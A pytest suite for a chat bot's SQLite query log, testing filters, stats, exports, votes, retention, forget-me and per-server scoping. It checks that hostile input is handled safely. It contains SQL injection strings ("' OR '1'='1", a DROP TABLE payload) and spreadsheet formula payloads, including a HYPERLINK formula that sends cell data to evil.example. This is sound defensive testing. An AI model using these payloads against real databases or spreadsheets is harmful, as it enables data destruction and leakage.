"""The query log read and pruned on a real SQLite file: listings, filters, stats, export, votes."""

from __future__ import annotations

import asyncio
import csv
import gzip
import io
import json
import sqlite3
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.config import Settings
from bot.querylog.actions import Action, follow_up_of, get_action, record_action
from bot.querylog.clock import cutoff, iso, parse_since
from bot.querylog.connection import atomically, connect, open_db
from bot.querylog.export import export
from bot.querylog.filters import Filters, frozen
from bot.querylog.identities import Identities
from bot.querylog.listings import LoggedQuery, Page, feedback, recent, unanswered
from bot.querylog.normalise import normalise_query
from bot.querylog.records import EXPORT_COLUMNS, QueryRecord
from bot.querylog.retention import count_before, expire, forget, purge
from bot.querylog.schema import SchemaError
from bot.querylog.scope import DIRECT_MESSAGES, EVERYTHING, OutOfScope, Scope, ScopeKind
from bot.querylog.stats import compute_stats
from bot.querylog.votes import record_vote

NOW = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)

HOSTILE = [
    "%",
    "_",
    "100%",
    "a_b",
    "'",
    '"',
    "\\",
    "\\%",
    "' OR '1'='1",
    "'; DROP TABLE queries; --",
    "x" * 5000,
    "[a-z]*",
]


async def _migrate(path: Path) -> None:
    db = await connect(path)
    await db.close()


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """An empty, migrated query log."""
    database = tmp_path / "log.db"
    asyncio.run(_migrate(database))
    return database


@pytest.fixture
def db(path: Path) -> Iterator[sqlite3.Connection]:
    conn = open_db(path, readonly=False)
    yield conn
    conn.close()


def add(conn: sqlite3.Connection, **fields: object) -> QueryRecord:
    """Insert one query-log row; ``ago`` (a timedelta before NOW) sets its time."""
    ago = fields.pop("ago", timedelta(0))
    assert isinstance(ago, timedelta)
    defaults: dict[str, object] = {
        "interaction_id": int(conn.execute("SELECT count(*) FROM queries").fetchone()[0]) + 1000,
        "user_id": 1,
        "user_name": "alice",
        "command": "ask",
        "query": "where is the satellite",
        "outcome": "answered",
        "latency_ms": 10.0,
        "results": [("doc#1", 5.0), ("doc#2", 3.0)],
        "total_matches": 2,
        "guild_id": 7,
        "created_at": iso(NOW - ago),
    }
    record = QueryRecord(**{**defaults, **fields})  # type: ignore[arg-type]
    row = record.to_row()
    conn.execute(
        f"INSERT INTO queries ({', '.join(row)}) VALUES ({', '.join(':' + k for k in row)})", row
    )
    return record


def ids(page: Page[LoggedQuery]) -> list[int]:
    return [row.interaction_id for row in page.rows]


# --- connections -------------------------------------------------------------------------------


def test_read_only_connection_cannot_write(path: Path) -> None:
    conn = open_db(path, readonly=True)
    with pytest.raises(sqlite3.OperationalError, match="readonly"):
        conn.execute("DELETE FROM queries")
    conn.close()


def test_missing_database_is_reported(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        open_db(tmp_path / "none.db", readonly=True)


def test_old_schema_is_refused(tmp_path: Path) -> None:
    old = tmp_path / "old.db"
    sqlite3.connect(old).execute("PRAGMA user_version = 1").connection.close()
    with pytest.raises(SchemaError):
        open_db(old, readonly=True)


# --- time and text -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("7d", NOW - timedelta(days=7)),
        ("12h", NOW - timedelta(hours=12)),
        (" 30M ", NOW - timedelta(minutes=30)),
        ("2w", NOW - timedelta(weeks=2)),
        ("2025-01-31", datetime(2025, 1, 31, tzinfo=UTC)),
        ("2025-01-31T08:00:00+02:00", datetime(2025, 1, 31, 6, tzinfo=UTC)),
    ],
)
def test_parse_since(text: str, expected: datetime) -> None:
    assert parse_since(text, NOW) == iso(expected)


@pytest.mark.parametrize("text", ["yesterday", "7 days", "-3d", "'; DROP TABLE queries; --", ""])
def test_parse_since_rejects_other_text(text: str) -> None:
    with pytest.raises(ValueError, match="since"):
        parse_since(text, NOW)


@pytest.mark.parametrize("text", ["9999-12-31T23:00-05:00", "0001-01-01T00:00+01:00"])
def test_parse_since_explains_dates_out_of_range(text: str) -> None:
    """Python raises OverflowError, not ValueError, for these; the member gets a sentence."""
    with pytest.raises(ValueError, match="`since` is too far"):
        parse_since(text, NOW)


def test_cutoff_before_year_one_is_a_value_error() -> None:
    with pytest.raises(ValueError, match="before the first date"):
        cutoff(10**9, NOW)


@pytest.mark.parametrize(
    ("query", "normalised"),
    [
        ("Where is the  Satellite?", "where is the satellite"),
        ("  “where is the satellite” ", "where is the satellite"),
        ("¿QUÉ?", "qué"),
    ],
)
def test_normalise_query(query: str, normalised: str) -> None:
    assert normalise_query(query) == normalised


# --- recent and filters ------------------------------------------------------------------------


def test_recent_is_newest_first_and_paged(db: sqlite3.Connection) -> None:
    for n in range(23):
        add(db, interaction_id=n, ago=timedelta(minutes=100 - n))
    first = recent(db, EVERYTHING, Filters(), page=0)
    assert ids(first) == list(range(22, 12, -1))
    assert (first.total, first.pages, first.has_previous, first.has_next) == (23, 3, False, True)
    last = recent(db, EVERYTHING, Filters(), page=2)
    assert ids(last) == [2, 1, 0] and last.has_previous and not last.has_next


def test_recent_row_summary_shows_everything_asked_for(db: sqlite3.Connection) -> None:
    add(db, interaction_id=5, user_name="bob", user_id=42, query="north korea")
    record_vote(db, EVERYTHING, 5, 99, 1, ["doc#1"])
    record_vote(db, EVERYTHING, 5, 98, -1, ["doc#1"])
    [row] = recent(db, EVERYTHING, Filters()).rows
    assert row.summary() == (
        "2025-03-10 12:00:00 · bob (42) · /ask “north korea” → answered · top doc#1 (5.00)"
        " · 👍 1 👎 1"
    )


def test_filters_combine(db: sqlite3.Connection) -> None:
    add(db, interaction_id=1, user_id=1, query="satellite launch", outcome="answered")
    add(db, interaction_id=2, user_id=2, query="satellite launch", outcome="answered")
    add(db, interaction_id=3, user_id=1, query="satellite launch", outcome="no_results")
    add(db, interaction_id=4, user_id=1, query="rockets", outcome="answered")
    add(db, interaction_id=5, user_id=1, query="Satellite", outcome="answered", ago=timedelta(9))
    filters = Filters(
        users=(1,), contains="SATELLITE", outcome="answered", since=parse_since("2d", NOW)
    )
    assert ids(recent(db, EVERYTHING, filters)) == [1]
    assert ids(recent(db, EVERYTHING, Filters(users=(1, 2), outcome="answered"))) == [4, 2, 1, 5]


@pytest.mark.parametrize("needle", HOSTILE)
def test_contains_matches_hostile_text_literally(db: sqlite3.Connection, needle: str) -> None:
    queries = [*HOSTILE, "plain question", "100 percent", "ab", "a-b", "x" * 4999]
    for n, text in enumerate(queries):
        add(db, interaction_id=n, query=text)
    found = {row.query for row in recent(db, EVERYTHING, Filters(contains=needle), 0, 100).rows}
    assert found == {q for q in queries if needle.lower() in q.lower()}
    assert db.execute("SELECT count(*) FROM queries").fetchone()[0] == len(queries)


def test_unknown_outcome_is_refused() -> None:
    with pytest.raises(ValueError, match="outcome"):
        Filters(outcome="answered' OR 1=1 --")


def test_frozen_filters_keep_pages_stable(db: sqlite3.Connection) -> None:
    add(db, interaction_id=1)
    filters = frozen(db, Filters())
    add(db, interaction_id=2)
    assert ids(recent(db, EVERYTHING, filters)) == [1]
    assert Filters.from_json(json.loads(json.dumps(filters.to_json()))) == filters


# --- unanswered, feedback, stats ---------------------------------------------------------------


def test_unanswered_groups_weak_and_missing_answers(db: sqlite3.Connection) -> None:
    add(db, query="Where do quokkas live?", outcome="no_results", results=[], ago=timedelta(1))
    add(db, query="where do  QUOKKAS live", outcome="no_results", results=[])
    add(db, query="weak one", results=[("doc#3", 0.5)])
    add(db, query="strong one", results=[("doc#3", 9.0)])
    add(db, query="broken", outcome="error", results=[])
    add(db, query="paged", command="more", outcome="no_results", results=[])
    page = unanswered(db, EVERYTHING, weak_score=1.0)
    assert [(u.query, u.asked, u.best_score) for u in page.rows] == [
        ("where do quokkas live", 2, None),
        ("weak one", 1, 0.5),
    ]
    assert page.rows[0].last_asked == iso(NOW)
    assert page.rows[0].summary().startswith("2× “where do quokkas live” · last 2025-03-10 12:00")
    recent_only = unanswered(db, EVERYTHING, weak_score=1.0, since=parse_since("1h", NOW))
    assert [(u.query, u.asked) for u in recent_only.rows] == [
        ("weak one", 1),  # equal counts and times: alphabetical
        ("where do quokkas live", 1),
    ]


def test_unanswered_groups_one_question_however_its_unicode_was_typed(
    db: sqlite3.Connection,
) -> None:
    """Keyboards differ: é as one code point or e + combining accent, CJK full-width ？ and
    letters. "What people ask" must count each question once."""
    for text in ("Où est le café?", "ou\u0300 est le cafe\u0301", "OÙ EST LE CAFÉ？"):
        add(db, query=text, outcome="no_results", results=[])
    for text in ("卫星在哪里？", "卫星在哪里?", "ｓａｔｅｌｌｉｔｅ", "satellite"):
        add(db, query=text, outcome="no_results", results=[])
    page = unanswered(db, EVERYTHING, weak_score=1.0)
    assert [(u.query, u.asked) for u in page.rows] == [
        ("où est le café", 3),
        ("satellite", 2),
        ("卫星在哪里", 2),
    ]
    assert compute_stats(db, EVERYTHING, days=1, now=NOW).top_queries[0] == (
        "où est le café",
        3,
    )


@pytest.mark.parametrize(
    ("typed", "plain"), [("㎒ band", "mhz band"), ("ℌello", "hello"), ("ᵂiki", "wiki")]
)
def test_a_question_is_grouped_case_folded_after_nfkc(typed: str, plain: str) -> None:
    """NFKC can turn one character into capitals (㎒ is MHz): they are folded too."""
    assert normalise_query(typed) == normalise_query(plain) == plain


def test_votes_change_and_feedback_ranks_unhelpful_passages(db: sqlite3.Connection) -> None:
    assert record_vote(db, EVERYTHING, 1, 10, 1, ["doc#1", "doc#2"]) is None
    assert record_vote(db, EVERYTHING, 1, 10, -1, ["doc#1", "doc#2"]) == 1  # changed, not added
    record_vote(db, EVERYTHING, 2, 10, -1, ["doc#2"])
    record_vote(db, EVERYTHING, 2, 11, -1, ["doc#2"])
    record_vote(db, EVERYTHING, 3, 11, 1, ["doc#2", "doc#9"])
    assert db.execute("SELECT count(*) FROM votes").fetchone()[0] == 4
    page = feedback(db, EVERYTHING)
    assert [(p.passage_id, p.down, p.up) for p in page.rows] == [("doc#2", 3, 1), ("doc#1", 1, 0)]
    with pytest.raises(ValueError):
        record_vote(db, EVERYTHING, 1, 10, 0, [])


def test_stats(db: sqlite3.Connection) -> None:
    for n, latency in enumerate([10, 20, 30, 40, 1000]):
        add(db, user_id=n % 2, latency_ms=latency)
    add(db, outcome="no_results", results=[], query="quokkas", latency_ms=5, ago=timedelta(1))
    add(db, ago=timedelta(days=30))  # outside the window
    add(db, command="source", query="doc#1")  # not a question
    record_vote(db, EVERYTHING, 1000, 3, -1, ["doc#1"])
    stats = compute_stats(db, EVERYTHING, days=7, now=NOW)
    assert [(d.day, d.queries, d.answered) for d in stats.per_day[-2:]] == [
        ("2025-03-09", 1, 0),
        ("2025-03-10", 5, 5),
    ]
    assert len(stats.per_day) == 7 and stats.per_day[0].day == "2025-03-04"
    assert (stats.queries, stats.answered, stats.distinct_users) == (6, 5, 2)
    assert stats.median_latency_ms == 20 and stats.p95_latency_ms == 1000
    assert stats.top_queries == [("where is the satellite", 5), ("quokkas", 1)]
    assert stats.top_passages[:2] == [("doc#1", 5), ("doc#2", 5)]
    assert (stats.votes_up, stats.votes_down) == (0, 1)
    assert stats.summary_lines()[1] == "Answered: 5 (83%)"


def test_stats_of_an_empty_log(db: sqlite3.Connection) -> None:
    stats = compute_stats(db, EVERYTHING, days=3, now=NOW)
    assert stats.queries == 0 and stats.median_latency_ms is None and stats.answered_share is None


# --- export ------------------------------------------------------------------------------------


def test_csv_export_equals_the_rows(db: sqlite3.Connection) -> None:
    for n, text in enumerate(HOSTILE[:10]):
        add(db, interaction_id=n, query=text + "\nsecond line, with comma")
    record_vote(db, EVERYTHING, 3, 1, -1, ["doc#1"])
    out = io.BytesIO()
    assert export(db, EVERYTHING, Filters(), "csv", out) == 10
    parsed = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    expected = recent(db, EVERYTHING, Filters(), page_size=100).rows[::-1]
    assert [row["query"] for row in parsed] == [row.query for row in expected]
    assert tuple(parsed[0]) == EXPORT_COLUMNS
    assert parsed[3]["votes_down"] == "1" and parsed[3]["interaction_id"] == "3"


def test_csv_export_cannot_run_formulas_in_a_spreadsheet(db: sqlite3.Connection) -> None:
    """A member's question or name opening with =, +, -, @ (or a tab or carriage return) is a
    formula to Excel and LibreOffice: the moderator opening the export would run it."""
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd", "-2+3", "@SUM(1)"]
    for n, text in enumerate([*formulas, "\tx", "\rx"]):
        add(db, interaction_id=n, query=text, user_name=text)
    add(db, interaction_id=9, query="a = b - c", user_name="ann", results=[])
    out = io.BytesIO()
    assert export(db, EVERYTHING, Filters(), "csv", out) == 7
    parsed = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    for row, text in zip(parsed, [*formulas, "\tx", "\rx"], strict=False):
        assert row["query"] == row["user_name"] == "'" + text
    assert parsed[-1]["query"] == "a = b - c" and parsed[-1]["results"] == "[]"
    assert parsed[0]["top_score"] == "5.0" and parsed[0]["votes_down"] == "0"


def test_jsonl_export_equals_the_rows(db: sqlite3.Connection) -> None:
    add(db, interaction_id=1, query="first")
    add(db, interaction_id=2, query="sécond", outcome="no_results", results=[])
    out = io.BytesIO()
    export(db, EVERYTHING, Filters(contains="É"), "jsonl", out)  # LIKE folds ASCII only
    assert out.getvalue() == b""
    out = io.BytesIO()
    assert export(db, EVERYTHING, Filters(), "jsonl", out) == 2
    lines = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    stored = [dict(r) for r in db.execute("SELECT * FROM queries ORDER BY id")]
    for line, row in zip(lines, stored, strict=True):
        assert line["results"] == json.loads(row["results"])
        assert {k: line[k] for k in row if k != "results"} == {
            k: v for k, v in row.items() if k != "results"
        }


def test_export_streams_many_rows(db: sqlite3.Connection, tmp_path: Path) -> None:
    rows = [
        (n, iso(NOW), 1, "alice", "ask", f"question {n}", "answered", 1.0) for n in range(10_000)
    ]
    db.execute("BEGIN")
    db.executemany(
        "INSERT INTO queries (interaction_id, created_at, user_id, user_name, command, query,"
        " outcome, latency_ms) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
        rows,
    )
    db.execute("COMMIT")
    target = tmp_path / "export.jsonl.gz"
    with gzip.open(target, "wb") as out:
        assert export(db, EVERYTHING, Filters(), "jsonl", out) == 10_000
    with gzip.open(target, "rt", encoding="utf-8") as back:
        assert sum(1 for _ in back) == 10_000


# --- purge, retention, forget-me, actions ------------------------------------------------------


def test_purge_deletes_old_queries_and_votes_but_keeps_actions(db: sqlite3.Connection) -> None:
    add(db, interaction_id=1, ago=timedelta(days=40))
    add(db, interaction_id=2, ago=timedelta(days=2))
    record_vote(db, EVERYTHING, 1, 5, 1, [], at=iso(NOW - timedelta(days=40)))
    record_vote(db, EVERYTHING, 2, 5, 1, [], at=iso(NOW - timedelta(days=2)))
    record_action(db, Action("cli", 0, "op", "stats", created_at=iso(NOW - timedelta(400))))
    deleted = purge(db, EVERYTHING, cutoff(30, NOW))
    assert (deleted.queries, deleted.votes, deleted.actions) == (1, 1, 0)
    assert ids(recent(db, EVERYTHING, Filters())) == [2]
    assert db.execute("SELECT count(*) FROM moderation_actions").fetchone()[0] == 1


def test_a_check_and_the_change_it_allows_are_one_transaction(
    db: sqlite3.Connection, path: Path
) -> None:
    """What settles a purge request: a second connection checking meanwhile waits for the
    first to commit, then sees its change (so two presses at once purge and log once)."""
    request = record_action(db, Action("discord", 1, "admin", "purge_requested"))
    checked = threading.Event()
    outcomes: list[str] = []

    def first_press() -> None:  # its own connection: SQLite's are per thread
        conn = open_db(path, readonly=False, busy_timeout_ms=5000)
        try:
            settle(conn, True)
        finally:
            conn.close()

    def settle(conn: sqlite3.Connection, pause: bool) -> None:
        def work() -> str:
            if follow_up_of(conn, EVERYTHING, request, ("purge",)):
                return "already answered"
            if pause:
                checked.set()
                time.sleep(0.3)  # the other press arrives now
            purge(conn, EVERYTHING, cutoff(30, NOW))  # nested: runs in this transaction
            done = Action("discord", 1, "admin", "purge", arguments={"request": request})
            record_action(conn, done)
            return "purged"

        outcomes.append(atomically(conn, work))

    first = threading.Thread(target=first_press)
    first.start()
    assert checked.wait(5)
    settle(db, False)
    first.join()
    assert outcomes == ["purged", "already answered"]
    actions = db.execute("SELECT count(*) FROM moderation_actions WHERE action = 'purge'")
    assert actions.fetchone()[0] == 1


def test_retention_also_expires_moderator_actions(db: sqlite3.Connection) -> None:
    add(db, ago=timedelta(days=100))
    old = iso(NOW - timedelta(days=100))
    record_action(db, Action("discord", 1, "mod", "recent", created_at=old))
    kept = record_action(db, Action("discord", 1, "mod", "recent"))
    assert expire(db, cutoff(90, NOW)).total == 2
    assert get_action(db, EVERYTHING, kept) is not None


def test_forget_removes_rows_under_raw_and_hashed_ids(db: sqlite3.Connection) -> None:
    identities = Identities(b"salt")
    member = 123456789012345678
    add(db, interaction_id=1, user_id=member)  # logged before hashing was turned on
    add(db, interaction_id=2, user_id=identities.key(member))
    add(db, interaction_id=3, user_id=555)
    record_vote(db, EVERYTHING, 3, identities.key(member), -1, [])
    record_vote(db, EVERYTHING, 3, 555, 1, [])
    deleted = forget(db, identities.keys_for(member))
    assert (deleted.queries, deleted.votes) == (2, 1)
    assert ids(recent(db, EVERYTHING, Filters())) == [3]


def test_forget_after_hashing_was_turned_off_finds_the_hashed_rows(
    db: sqlite3.Connection,
) -> None:
    """QUERY_LOG_HASH_USERS on, then off with the salt still set: /forget-me (and the user
    filter) must still find what was stored hashed."""
    salt = "a-salt-of-sixteen-plus"
    on = Settings(query_log_hash_users=True, query_log_user_salt=salt).identities
    off = Settings(query_log_hash_users=False, query_log_user_salt=salt).identities
    member = 123456789012345678
    add(db, interaction_id=1, user_id=on.key(member))  # while hashing was on
    record_vote(db, EVERYTHING, 1, on.key(member), -1, [])
    add(db, interaction_id=2, user_id=off.key(member))  # after it was turned off
    add(db, interaction_id=3, user_id=555)
    assert off.key(member) == member and off.name(member, "Ada") == "Ada"
    assert ids(recent(db, EVERYTHING, Filters(users=off.keys_for(member)))) == [2, 1]
    deleted = forget(db, off.keys_for(member))
    assert (deleted.queries, deleted.votes) == (2, 1)
    assert ids(recent(db, EVERYTHING, Filters())) == [3]


@pytest.mark.parametrize("hashing_on", [True, False])
def test_a_member_filter_holds_no_raw_id_and_finds_rows_stored_either_way(
    path: Path, hashing_on: bool
) -> None:
    identities = Identities(b"a-salt-of-sixteen-plus", hashing_on=hashing_on)
    member = 123456789012345678
    conn = open_db(path, readonly=False, identities=identities)
    add(conn, interaction_id=1, user_id=member)  # stored unhashed
    add(conn, interaction_id=2, user_id=identities.key(member))
    add(conn, interaction_id=3, user_id=Identities(b"a-salt-of-sixteen-plus").key(member))
    add(conn, interaction_id=4, user_id=555)
    filters = frozen(conn, Filters(users=(identities.filter_key(member),)))
    assert ids(recent(conn, EVERYTHING, filters)) == [3, 2, 1]
    assert str(member) not in json.dumps(filters.to_json())
    conn.close()


def test_actions_round_trip_and_follow_ups(db: sqlite3.Connection) -> None:
    action = Action("discord", 1, "mod", "purge_requested", {"older_than_days": 30}, guild_id=7)
    request = record_action(db, action)
    stored = get_action(db, EVERYTHING, request)
    assert stored is not None and stored.arguments == {"older_than_days": 30}
    assert not follow_up_of(db, EVERYTHING, request, ("purge", "purge_cancelled"))
    record_action(db, Action("discord", 1, "mod", "purge", {"request": request}))
    assert follow_up_of(db, EVERYTHING, request, ("purge", "purge_cancelled"))
    assert get_action(db, EVERYTHING, 999) is None


def test_identities_hash_consistently() -> None:
    plain, hashed, other = Identities(), Identities(b"one"), Identities(b"two")
    assert plain.key(42) == 42 and plain.name(42, "alice") == "alice"
    assert hashed.key(42) == hashed.key(42) != other.key(42)
    assert 0 < hashed.key(42) < 2**63 and hashed.key(42) != 42
    assert hashed.name(42, "alice").startswith("member-") and "alice" not in hashed.name(42, "a")
    assert hashed.keys_for(42) == (hashed.key(42), 42) and plain.keys_for(42) == (42,)


# --- scope: one server's rows ------------------------------------------------------------------

A, B = Scope.server(7), Scope.server(8)
DM = DIRECT_MESSAGES


@pytest.fixture
def servers(db: sqlite3.Connection) -> sqlite3.Connection:
    """Questions in server 7 (ids 1–3), server 8 (ids 11–12) and direct messages (id 21), each
    with a 👎 on a passage named after where it was asked, and one vote on an unlogged answer."""
    for answer, guild, outcome in [
        (1, 7, "answered"),
        (2, 7, "no_results"),
        (3, 7, "no_results"),
        (11, 8, "answered"),
        (12, 8, "no_results"),
        (21, None, "no_results"),
    ]:
        results = [] if outcome == "no_results" else [(f"doc{guild}#1", 5.0)]
        add(
            db,
            interaction_id=answer,
            guild_id=guild,
            outcome=outcome,
            results=results,
            query=f"lost in {guild}",
            user_id=answer,
        )
        record_vote(db, EVERYTHING, answer, 100, -1, [f"doc{guild}#1"], at=iso(NOW))
    record_vote(db, EVERYTHING, 999, 100, -1, ["unlogged#1"], at=iso(NOW))
    return db


def everything_seen(conn: sqlite3.Connection, scope: Scope) -> dict[str, object]:
    """What each review function shows of ``scope``."""
    out = io.BytesIO()
    export(conn, scope, Filters(), "jsonl", out)
    stats = compute_stats(conn, scope, days=1, now=NOW)
    return {
        "recent": sorted(ids(recent(conn, scope, Filters(), page_size=100))),
        "export": [json.loads(line)["interaction_id"] for line in out.getvalue().splitlines()],
        "unanswered": [(u.query, u.asked) for u in unanswered(conn, scope, weak_score=1).rows],
        "feedback": [p.passage_id for p in feedback(conn, scope).rows],
        "stats": (stats.queries, stats.distinct_users, stats.votes_down),
        "count_before": count_before(conn, scope, cutoff(-1, NOW)),
    }


@pytest.mark.parametrize(
    ("scope", "expected"),
    [
        (
            A,
            {
                "recent": [1, 2, 3],
                "export": [1, 2, 3],
                "unanswered": [("lost in 7", 2)],
                "feedback": ["doc7#1"],
                "stats": (3, 3, 3),
                "count_before": 3,
            },
        ),
        (
            B,
            {
                "recent": [11, 12],
                "export": [11, 12],
                "unanswered": [("lost in 8", 1)],
                "feedback": ["doc8#1"],
                "stats": (2, 2, 2),
                "count_before": 2,
            },
        ),
        (
            DM,
            {
                "recent": [21],
                "export": [21],
                "unanswered": [("lost in none", 1)],
                "feedback": ["docNone#1"],
                "stats": (1, 1, 1),
                "count_before": 1,
            },
        ),
        (
            EVERYTHING,
            {
                "recent": [1, 2, 3, 11, 12, 21],
                "export": [1, 2, 3, 11, 12, 21],
                "unanswered": [("lost in 7", 2), ("lost in 8", 1), ("lost in none", 1)],
                "feedback": ["doc7#1", "doc8#1", "docNone#1", "unlogged#1"],
                "stats": (6, 6, 7),
                "count_before": 6,
            },
        ),
    ],
    ids=["server-7", "server-8", "direct-messages", "everything"],
)
def test_each_review_sees_only_its_scope(
    servers: sqlite3.Connection, scope: Scope, expected: dict[str, object]
) -> None:
    assert everything_seen(servers, scope) == expected


def test_purging_one_server_leaves_the_others_rows(servers: sqlite3.Connection) -> None:
    """Server 8's purge of everything older than now: its questions and every vote on them go,
    one cast after the cutoff too; server 7's, direct messages' and the unlogged answer's stay."""
    record_vote(servers, B, 12, 101, 1, [], at=iso(NOW + timedelta(days=1)))
    deleted = purge(servers, B, cutoff(0, NOW + timedelta(seconds=1)))
    assert (deleted.queries, deleted.votes) == (2, 3)
    remaining = {row[0] for row in servers.execute("SELECT interaction_id FROM queries")}
    assert remaining == {1, 2, 3, 21}
    voted = {row[0] for row in servers.execute("SELECT answer_id FROM votes")}
    assert voted == {1, 2, 3, 21, 999}
    assert everything_seen(servers, B)["recent"] == []
    assert everything_seen(servers, A)["stats"] == (3, 3, 3)


def test_purging_direct_messages_leaves_every_server(servers: sqlite3.Connection) -> None:
    deleted = purge(servers, DM, cutoff(0, NOW + timedelta(seconds=1)))
    assert (deleted.queries, deleted.votes) == (1, 1)
    assert {row[0] for row in servers.execute("SELECT guild_id FROM queries")} == {7, 8}


def test_a_vote_on_another_servers_answer_is_refused(servers: sqlite3.Connection) -> None:
    with pytest.raises(OutOfScope):
        record_vote(servers, B, 1, 102, 1, ["doc7#1"])
    with pytest.raises(OutOfScope):
        record_vote(servers, DM, 11, 102, 1, ["doc8#1"])
    assert record_vote(servers, A, 1, 102, 1, ["doc7#1"]) is None
    assert record_vote(servers, B, 5000, 102, 1, []) is None  # not logged yet: taken
    assert servers.execute("SELECT count(*) FROM votes WHERE user_id = 102").fetchone()[0] == 2


def test_a_moderator_action_is_found_only_in_its_server(db: sqlite3.Connection) -> None:
    request = record_action(db, Action("discord", 1, "mod", "purge_requested", guild_id=7))
    assert get_action(db, A, request) is not None
    assert get_action(db, B, request) is None and get_action(db, DM, request) is None
    assert get_action(db, EVERYTHING, request) is not None
    done = Action("discord", 1, "mod", "purge", {"request": request}, guild_id=8)
    record_action(db, done)  # a forged press in server 8
    assert follow_up_of(db, B, request, ("purge",))
    assert not follow_up_of(db, A, request, ("purge",))


@pytest.mark.parametrize(
    ("kind", "guild_id"), [("server", None), ("direct_messages", 7), ("everything", 7)]
)
def test_a_scope_has_a_server_id_exactly_when_it_is_a_server(
    kind: ScopeKind, guild_id: int | None
) -> None:
    with pytest.raises(ValueError, match="server id"):
        Scope(kind, guild_id)
